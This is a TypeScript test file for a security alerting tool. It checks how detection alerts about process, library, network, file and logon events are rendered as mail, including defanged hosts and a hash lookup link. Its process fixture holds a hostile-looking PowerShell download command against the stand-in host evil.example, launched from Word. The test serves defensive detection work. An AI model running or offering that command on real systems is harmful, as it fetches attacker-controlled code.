import { describe, expect, it } from 'vitest';
import type { JsonObject } from '../../functions/alert/eql/index.ts';
import { ruleOf } from '../ruleset/rule-folder.ts';
import { checkCarriers } from './check-carriers.ts';
import { byReg, foreignRule, mailOf, REG } from './foreign-alerts.ts';

const { registry: _, ...unwritten } = byReg();
const ran: JsonObject = {
  ...unwritten,
  event: { category: ['process'], type: ['start'], action: 'start' },
  process: {
    ...REG,
    name: 'powershell.exe',
    executable: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    command_line: 'powershell -nop -c "iwr evil.example"',
    args_count: 4,
    parent: {
      name: 'winword.exe',
      executable: 'C:\\Office\\winword.exe',
      pid: 5,
      command_line: 'winword a.docx',
    },
  },
};
const act = (category: string, more: JsonObject): JsonObject => ({
  ...ran,
  event: { category: [category], type: ['start'] },
  process: REG,
  ...more,
});

describe('an event that is no registry event has a first screen of its own', () => {
  it.each([
    [
      'what ran',
      ran,
      /^Ran +powershell -nop -c "iwr evil\[\.\]example"\n[\s\S]*^Initiated by +C:\\Office\\winword\.exe \(pid 5\);[\s\S]*winword a\.docx/m,
    ],
    [
      'what was loaded',
      act('library', { dll: { path: 'C:\\T\\a.dll', name: 'a.dll' } }),
      /^Loaded +C:\\T\\a\.dll\n[\s\S]*^Initiated by +C:\\Windows\\System32\\reg\.exe/m,
    ],
    [
      'where it connected',
      act('network', { destination: { ip: '203.0.113.9', port: 443 } }),
      /^Connected +203\[\.\]0\[\.\]113\[\.\]9:443\n/m,
    ],
    [
      'what was written',
      act('file', { file: { path: 'C:\\T\\x.exe', name: 'x.exe' } }),
      /^File +C:\\T\\x\.exe\n/m,
    ],
    [
      'what happened',
      act('authentication', { event: { category: ['authentication'], action: 'logon' } }),
      /^Event +logon\n/m,
    ],
  ])('%s', (_name, event, screen) => {
    const rule = foreignRule('any where true');
    const mail = mailOf(event, rule);
    expect(mail).toMatch(screen);
    // Of a registry nothing is said, and what has no answer is not asked.
    expect(mail).not.toMatch(/^Value|^ {2}(RAN|THERE) |REG_|\(THERE\)|no data in the event|default value/m);
    checkCarriers(event, rule);
  });
  it('asks for the hash, here and elsewhere', () => {
    const mail = mailOf(ran, ruleOf('test/rules/foreign/office-starts-script-host'));
    expect(mail).toContain(`process.hash.sha256 : "${'ab'.repeat(32)}" and not host.id`);
    expect(mail).toContain(`https://www.virustotal.com/gui/file/${'ab'.repeat(32)}`);
    expect(mail).toContain('process.parent.executable == "C:\\\\Office\\\\winword.exe"');
  });
});
